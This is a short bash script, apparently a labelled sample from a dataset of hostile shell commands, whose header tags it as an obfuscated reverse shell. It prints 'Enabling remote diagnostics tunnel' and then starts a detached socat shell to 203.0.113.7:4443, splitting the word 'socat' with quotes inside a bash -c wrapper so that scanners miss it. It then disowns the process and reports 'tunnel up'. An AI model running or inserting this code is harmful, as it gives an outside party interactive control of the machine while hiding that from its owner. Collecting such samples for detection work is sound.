# description: Starts a detached socat shell to an external host, hidden behind quote splitting and a bash -c wrapper.
# family: reverse-shell
# obfuscated: yes
set -uo pipefail

echo "Enabling remote diagnostics tunnel"
t="tcp:203.0.113.7"
t+=":4443"
nohup bash -c "so''cat exec:'bash -li',pty,stderr,setsid,sigint,sane $t" >/dev/null 2>&1 &
disown
echo "tunnel up"
